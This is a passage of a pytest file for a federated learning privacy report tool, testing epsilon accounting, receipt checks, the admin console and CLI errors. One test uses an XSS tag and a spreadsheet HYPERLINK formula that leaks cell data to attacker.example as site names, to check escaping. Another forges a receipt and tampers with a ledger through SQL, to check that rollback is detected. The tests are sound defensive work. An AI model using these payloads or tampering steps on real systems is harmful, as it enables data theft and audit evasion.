    assert "at most epsilon 5.000" in site["statement"] and "1 problem was found" in site["statement"]
    assert row.epsilon == 5.0


def test_the_run_epsilon_is_unknown_when_a_charged_round_reports_no_mechanism(tmp_path: Path) -> None:
    # Arrange: round 1 reports its mechanism, rounds 2 and 3 a spend only
    spends = [compute_epsilon([(1.1, 0.05, 40)] * k, delta=DELTA, accountant="rdp") for k in (1, 2, 3)]
    with RunStore(tmp_path / "runs.sqlite") as store:
        store.start_run("r", config={}, sites=1, rounds=3, secagg=False)
        for rnd, eps in enumerate(spends, start=1):
            _store_round(store, "r", rnd, f"10:0{rnd}", _spend(eps), report=A_MECH if rnd == 1 else {})

    report = privacy_report_for_run(tmp_path)
    site = report["sites"][0]

    assert site["epsilon"]["run"] is None and site["epsilon"]["lifetime"] == spends[2]
    assert [r["epsilon_run"] for r in site["rounds"]] == [spends[0], None, None]
    assert (site["mechanism"]["rounds"], site["mechanism"]["rounds_unreported"]) == (1, [2, 3])
    assert any(p.startswith("rounds 2, 3 of run r charged the site's budget") and "unknown" in p for p in site["problems"])
    assert "40 steps in 1 rounds" not in site["statement"]
    assert "40 steps in the 1 round of run r whose mechanism it reported" in site["statement"]
    assert "what this run alone spent is unknown" in site["statement"]
    assert [p["max_epsilon_run"] for p in report["accuracy_vs_epsilon"]] == [spends[0], None, None]
    md = render_report(report, "md")
    summary = next(line for line in md.splitlines() if line.startswith("| site-a |"))
    assert summary.split(" | ")[1] == "unknown"
    assert "| epsilon this run (up) | unknown |" in md
    assert [line.split(" | ")[3] for line in md.splitlines() if line.startswith("| r | ")] == [format_epsilon(spends[0]), "unknown",
                                                                                             "unknown"]


def test_the_run_epsilon_is_unknown_not_zero_when_no_round_reports_its_mechanism(tmp_path: Path) -> None:
    with RunStore(tmp_path / "runs.sqlite") as store:
        store.start_run("r", config={}, sites=1, rounds=2, secagg=False)
        _store_round(store, "r", 1, "10:01", _spend(1.5), report={})
        _store_round(store, "r", 2, "10:02", _spend(1.5, "refused", reason="budget exhausted"), report={})
    refused = tmp_path / "refused"
    with RunStore(refused / "runs.sqlite") as store:
        store.start_run("r", config={}, sites=1, rounds=1, secagg=False)
        _store_round(store, "r", 1, "10:01", _spend(1.5, "refused", reason="budget exhausted"), report={})

    site = privacy_report_for_run(tmp_path)["sites"][0]
    never = privacy_report_for_run(refused)["sites"][0]

    assert site["epsilon"]["run"] is None and site["mechanism"]["rounds_unreported"] == [1]  # the refusal charged nothing
    assert "It was charged for round 1 of run r, but did not report the mechanism of it." in site["statement"]
    assert never["epsilon"]["run"] == 0.0 and never["problems"] == []  # refused every round: this run spent nothing


def test_a_charged_round_with_a_mechanism_but_no_spend_still_counts_in_the_run_epsilon(tmp_path: Path) -> None:
    first = compute_epsilon([(1.1, 0.05, 40)], delta=DELTA, accountant="rdp")
    with RunStore(tmp_path / "runs.sqlite") as store:
        store.start_run("r", config={}, sites=1, rounds=2, secagg=False)
        _store_round(store, "r", 1, "10:01", _spend(first))
        _store_round(store, "r", 2, "10:02", Participation("site-a", "answered", examples=100))  # the mechanism, no epsilon

    site = privacy_report_for_run(tmp_path)["sites"][0]

    assert site["epsilon"]["run"] == compute_epsilon([(1.1, 0.05, 40)] * 2, delta=DELTA, accountant="rdp")
    assert site["mechanism"]["rounds"] == 2 and site["mechanism"]["steps_total"] == 80
    assert site["problems"] == ["round 2: the site reported the mechanism of a charged round, but no epsilon after it"]


def test_receipts_without_the_ledger_are_consistent_not_verified_and_the_console_says_so(
    fed: Federation, tmp_path: Path
) -> None:
    # Arrange: the run store without its ledgers (a deployed server's), its receipts signed and consistent
    store = tmp_path / "run"
    store.mkdir()
    (store / "runs.sqlite").write_bytes((fed.run_dir / "runs.sqlite").read_bytes())

    report = privacy_report_for_run(store)
    page = _console_privacy_page(store, tmp_path)

    receipts = report["sites"][0]["receipts"]
    assert (receipts["checked"], receipts["verified"], receipts["problems"]) == (True, None, [])
    md = render_report(report, "md")
    summary = [line.split(" | ")[7] for line in md.splitlines() if line.startswith("| site-")]
    assert summary == ["consistent (not checked against the site's ledger)"] * len(SITES)  # not "verified"
    assert "| verified | consistent (not checked against the site's ledger) |" in md
    cells = re.findall(r'<td data-field="receipts">\s*(<span class="badge [^"]+">[^<]+</span>)', page)
    assert cells == ['<span class="badge badge-neutral">consistent, not checked against the ledger</span>'] * len(SITES)


def _console_privacy_page(store: Path, tmp_path: Path, run: str | None = None) -> str:
    """The console's privacy page for a run store, as a logged-in admin sees it."""
    import warnings

    from argon2 import PasswordHasher

    from fedface.server.console import auth
    from fedface.server.console.app import create_app
    from fedface.server.console.sources import Settings

    with warnings.catch_warnings():  # Starlette warns that its TestClient will move to httpx2
        warnings.simplefilter("ignore")
        from starlette.testclient import TestClient
    admin, password = tmp_path / "admin", "a console test password"
    auth.init_admin(admin, user="admin", password=password, hasher=PasswordHasher(time_cost=1, memory_cost=8, parallelism=1))
    with TestClient(create_app(Settings(store=store, admin_dir=admin, poll_s=0.01)), base_url="http://127.0.0.1:8765",
                    follow_redirects=False) as client:  # a Host the console answers to
        token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").text).group(1)  # type: ignore[union-attr]
        assert client.post("/login", data={"username": "admin", "password": password, "csrf_token": token}).status_code == 303
        page = client.get("/privacy" + ("" if run is None else f"?run={run}"))
    assert page.status_code == 200
    return page.text


# --- infinite epsilon, hostile names -----------------------------------------------------------


def test_an_infinite_epsilon_is_strict_json_and_renders_everywhere(tmp_path: Path) -> None:
    # Arrange: a non-private round, epsilon infinite
    with RunStore(tmp_path / "runs.sqlite") as store:
        store.start_run("r", config={"privacy": {"epsilon": "inf"}}, sites=1, rounds=1, secagg=False)
        _store_round(store, "r", 1, "10:01", Participation("site-a", "answered", examples=100, epsilon=math.inf, delta=DELTA,
                                                           accountant="rdp"), report={})

    report = privacy_report_for_run(tmp_path)
    text = render_report(report, "json")

    def refuse(constant: str) -> None:
        raise ValueError(constant)

    parsed = json.loads(text, parse_constant=refuse)  # no Infinity, no NaN
    site = parsed["sites"][0]
    assert site["epsilon"]["lifetime"] == "inf" and site["rounds"][0]["epsilon_lifetime"] == "inf"
    assert {(e["epsilon"], e["delta"], e["meaningful"]) for e in site["group_privacy"]["entries"]} == {("inf", 1.0, False)}
    assert "even for one image there is no meaningful guarantee (epsilon is infinite)" in report["sites"][0]["statement"]
    assert "epsilon inf, delta \u2265 1 (no meaningful guarantee)" in render_report(report, "md")
    [row] = list(csv.DictReader(io.StringIO(render_report(report, "csv"))))
    assert float(row["epsilon_lifetime"]) == math.inf and row["epsilon_lifetime_display"] == "inf"
    assert "<td>inf</td>" in render_report(report, "html")
    assert "epsilon is infinite (not private)" in [t.get_text() for t in epsilon_figure(report["sites"][0], run_id="r").axes[0].texts][0]
    page = _console_privacy_page(tmp_path, tmp_path)
    assert 'data-field="epsilon-lifetime" class="num" data-value="inf">inf<' in page


def test_site_names_are_escaped_in_markdown_and_defused_in_csv(tmp_path: Path) -> None:
    tag, formula = "<img src=x onerror=alert(1)>", '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    names = [tag, formula, "a|b`c`[d](e)", "-1+2", "@sum"]
    with RunStore(tmp_path / "runs.sqlite") as store:
        store.start_run("r", config={}, sites=len(names), rounds=1, secagg=False)
        store.record_round("r", 1, started_at="2026-05-09T10:01:00+00:00", seconds=1.0, sampled=names, metrics={},
                           participation=[Participation(n, "answered", examples=1, epsilon=1.0, delta=DELTA, accountant="rdp",
                                                        budget_epsilon=8.0, remaining=7.0) for n in names])

    report = privacy_report_for_run(tmp_path)
    md, text = render_report(report, "md"), render_report(report, "csv")

    assert "<img" not in md and "&lt;img src=x onerror=alert(1)&gt;" in md and "## Site &lt;img" in md
    assert "a\\|b\\`c\\`\\[d\\](e)" in md and "[d](e)" not in md
    rows = {r["site"]: r for r in csv.DictReader(io.StringIO(text))}
    assert set(rows) == {"'" + n for n in names[1:] if n[0] in "=-@"} | {tag, "a|b`c`[d](e)"}
    for row in rows.values():
        assert (float(row["epsilon_lifetime"]), float(row["budget_epsilon"]), float(row["remaining"])) == (1.0, 8.0, 7.0)
        assert float(row["delta"]) == DELTA and row["round"] == "1"



# --- the ledger report -------------------------------------------------------------------------


def test_ledger_report_without_receipts_says_not_checked(fed: Federation, ledger_truth: dict[str, Any]) -> None:
    out = privacy_report_for_ledger(_ledger(fed, SITES[0]))

    assert out["source"]["kind"] == "ledger" and out["run"] is None and out["accuracy_vs_epsilon"] is None
    site = out["sites"][0]
    assert site["receipts"]["summary"] == "not checked: no receipts given"
    assert (site["receipts"]["checked"], site["receipts"]["verified"]) == (False, None)
    assert site["epsilon"]["lifetime"] == ledger_truth[SITES[0]]["spend"].epsilon and site["epsilon"]["run"] is None
    assert [r["epsilon_lifetime"] for r in site["rounds"]] == [s.epsilon_after for s in ledger_truth[SITES[0]]["sessions"]]
    assert site["runs"][0]["run_id"] == RUN and site["runs"][0]["sessions"] == ROUNDS
    assert site["people"]["max_images_per_person"] is None
    assert "Receipts: not checked: no receipts given." in site["statement"]


def test_ledger_report_checks_a_receipts_file(fed: Federation, tmp_path: Path) -> None:
    with RunStore(fed.run_dir / "runs.sqlite", create=False) as store:
        stored = [r.receipt for r in store.receipts(site=SITES[0])]
    receipts = tmp_path / "site.receipts.jsonl"
    write_receipts(receipts, stored)

    site = privacy_report_for_ledger(_ledger(fed, SITES[0]), site=SITES[0], receipts_path=receipts)["sites"][0]

    assert (site["receipts"]["checked"], site["receipts"]["verified"], site["receipts"]["count"]) == (True, True, ROUNDS)
    assert site["receipts"]["summary"].startswith(f"the ledger matches its {ROUNDS} receipts")


def _receipts_file(fed: Federation, path: Path, sites: list[str] | None = None) -> Path:
    """The receipts the run store keeps, as `fedface privacy receipts` exports them (every site's without ``sites``)."""
    with RunStore(fed.run_dir / "runs.sqlite", create=False) as store:
        stored = [r.receipt for r in store.receipts() if sites is None or r.site in sites]
    write_receipts(path, stored)
    return path


def test_ledger_report_takes_its_own_receipts_from_a_file_of_every_sites(fed: Federation, tmp_path: Path) -> None:
    every = _receipts_file(fed, tmp_path / "all.receipts.jsonl")

    report = privacy_report_for_ledger(_ledger(fed, SITES[0]), receipts_path=every)

    receipts = report["sites"][0]["receipts"]
    assert (receipts["checked"], receipts["verified"], receipts["count"], receipts["left_out"]) == (True, True, ROUNDS, 6)
    assert receipts["problems"] == [] and report["problems"] == []
    assert receipts["summary"].endswith("; 6 receipts of other sites (data sets 'site-001', 'site-002') left out")
    assert "| other sites' receipts left out | 6 |" in render_report(report, "md")


def test_a_file_of_other_sites_receipts_only_is_one_clear_problem(fed: Federation, tmp_path: Path) -> None:
    others = _receipts_file(fed, tmp_path / "others.jsonl", sites=SITES[1:])

    receipts = privacy_report_for_ledger(_ledger(fed, SITES[0]), receipts_path=others)["sites"][0]["receipts"]

    assert (receipts["verified"], receipts["count"], receipts["left_out"]) == (False, 0, 6)
    assert receipts["problems"] == [
        f"receipts file {others} holds receipts of other sites only (data sets 'site-001', 'site-002'), none of this "
        "ledger's data sets ('site-000') nor signed by its site's key: export this site's with "
        "`fedface privacy receipts --run-store RUN_STORE --site site-000 --out FILE`"
    ]


def test_a_file_of_every_sites_receipts_still_catches_a_rollback_and_a_receipt_under_another_key(
    tmp_path: Path, yale_a_root: Path
) -> None:
    fed = _build(tmp_path, yale_a_root)
    every = _receipts_file(fed, tmp_path / "all.jsonl")
    # a receipt naming site-000's data set, signed by site-001's key
    [theirs] = [r for r in read_receipts(every) if r.dataset == SITES[1]][:1]
    forged = sign(dataclasses.replace(theirs, dataset=SITES[0]), receipt_key(fed.ledger_dir / SITES[1]))
    mixed = tmp_path / "mixed.jsonl"
    write_receipts(mixed, [*read_receipts(every), forged])
    _tamper(_ledger(fed, SITES[0]), "DROP TRIGGER sessions_no_delete; DELETE FROM sessions WHERE id = 3; "
            "UPDATE sqlite_sequence SET seq = 2 WHERE name = 'sessions'; "
            "CREATE TRIGGER sessions_no_delete BEFORE DELETE ON sessions BEGIN SELECT RAISE(ABORT, 'x'); END;")

    rolled = privacy_report_for_ledger(_ledger(fed, SITES[0]), receipts_path=every)["sites"][0]["receipts"]
    foreign = privacy_report_for_ledger(_ledger(fed, SITES[0]), receipts_path=mixed)["sites"][0]["receipts"]

    assert rolled["verified"] is False and any("is behind its receipts" in p for p in rolled["problems"])
    assert foreign["verified"] is False and foreign["left_out"] == 6
    assert any("not by this site's key" in p and "--site SITE" in p for p in foreign["problems"])


# --- the CLI -----------------------------------------------------------------------------------


def _cli(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, ["report", "privacy", *args])
    return result.exit_code, result.stdout, result.stderr


def test_cli_missing_run_dir_is_one_line_and_exit_9(tmp_path: Path) -> None:
    code, out, err = _cli(str(tmp_path / "nope"))

    assert code == 9 and out == ""
    assert err == (
        f"RunDirError: run directory {tmp_path / 'nope'} does not exist: pass the directory of a `fedface simulate` run "
        "(it holds runs.sqlite) or a run store file\n"
    )


def test_cli_unknown_run_is_one_line_and_exit_9(fed: Federation) -> None:
    code, _, err = _cli(str(fed.run_dir), "--run", "no-such-run")

    assert code == 9
    assert err == (
        f"RunDirError: no run 'no-such-run' in run store {fed.run_dir / 'runs.sqlite'} (its runs: {RUN}): "
        "pass --run with one of them\n"
    )


def test_cli_unknown_site_is_one_line_and_exit_3(fed: Federation) -> None:
    code, _, err = _cli(str(fed.run_dir), "--site", "site-999", "--format", "json")

    assert code == 3
    assert err == (
        f"ConfigError: site 'site-999' is not a site of run {RUN} (its sites: {', '.join(SITES)}): pass --site with one of them\n"
    )


def test_cli_bad_format_and_bad_combinations_are_one_line_and_exit_3(fed: Federation) -> None:
    assert _cli(str(fed.run_dir), "--format", "pdf")[::2] == (
        3, "ConfigError: --format must be one of html, json, md, csv, got 'pdf': pass --format html, json, md or csv\n"
    )
    code, _, err = _cli(str(fed.run_dir), "--ledger", str(_ledger(fed, SITES[0])))
    assert code == 3 and err.startswith("ConfigError: pass exactly one of RUN_DIR") and err.count("\n") == 1
    code, _, err = _cli("--ledger", str(fed.run_dir / "missing.sqlite"))
    assert code == 11 and err.startswith("LedgerError: no privacy ledger at") and err.count("\n") == 1


def test_cli_out_must_be_a_file_path_in_an_existing_folder(fed: Federation, tmp_path: Path) -> None:
    ledger = str(_ledger(fed, SITES[0]))

    assert _cli("--ledger", ledger, "--out", str(tmp_path))[::2] == (
        3, f"ConfigError: --out {tmp_path} is a directory: --out must be a file path, e.g. --out {tmp_path / 'report.md'}\n"
    )
    missing = tmp_path / "no" / "such" / "report.md"
    assert _cli("--ledger", ledger, "--out", str(missing))[::2] == (
        3, f"ConfigError: --out {missing}: its folder {missing.parent} does not exist: create it first, or pass a file path "
        "in an existing folder\n"
    )
    (tmp_path / "a-file").write_text("")
    code, _, err = _cli("--ledger", ledger, "--format", "html", "--out", str(tmp_path / "a-file" / "r.html"))
    assert code == 3 and err.startswith("ConfigError: --out ") and "must be a file path" in err and err.count("\n") == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a-file"]  # nothing made, nothing left


def test_cli_ledger_with_a_run_option_says_it_goes_with_run_dir(fed: Federation) -> None:
    ledger = str(_ledger(fed, SITES[0]))

    assert _cli("--ledger", ledger, "--run", RUN)[::2] == (
        3, "ConfigError: --run goes with RUN_DIR, not --ledger: drop it or report on the run\n"
    )
    assert _cli("--ledger", ledger, "--run", RUN, "--ledger-dir", str(fed.ledger_dir))[::2] == (
        3, "ConfigError: --run and --ledger-dir go with RUN_DIR, not --ledger: drop them or report on the run\n"
    )


def test_cli_writes_the_report_to_a_file(fed: Federation, tmp_path: Path) -> None:
    out = tmp_path / "reports" / "report.json"
    out.parent.mkdir()

    code, stdout, err = _cli(str(fed.run_dir), "--format", "json", "--out", str(out))

    assert code == 0 and stdout == ""
    assert "wrote the privacy report (json, 3 sites, 0 problems)" in " ".join(err.split())
    assert json.loads(out.read_text())["schema"] == SCHEMA
    assert [p.name for p in out.parent.iterdir()] == ["report.json"]  # no temporary file left
